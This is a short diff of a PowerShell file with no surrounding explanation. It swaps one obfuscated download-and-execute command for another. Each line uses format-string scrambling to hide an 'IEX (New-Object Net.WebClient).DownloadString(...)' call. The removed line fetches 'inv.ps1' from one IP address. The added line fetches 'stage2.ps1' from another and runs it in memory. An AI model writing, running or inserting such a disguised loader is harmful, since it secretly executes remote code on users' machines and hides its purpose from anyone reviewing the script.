@@ -1,3 +1,3 @@
-iex ("{2}{3}{1}{0}" -f 'w-Object Net.WebClient).DownloadString(''http://192.0.2.44/inv.ps1'')
-','Ne','# bootstrap 5','492 v4
-IEX (')
+iex ("{1}{5}{4}{3}{0}{2}" -f '//203.0.113.17/stage2.p','# run 9132 v4
+IEX (N','s1'')
+','(''http:','oadString','ew-Object Net.WebClient).Downl')
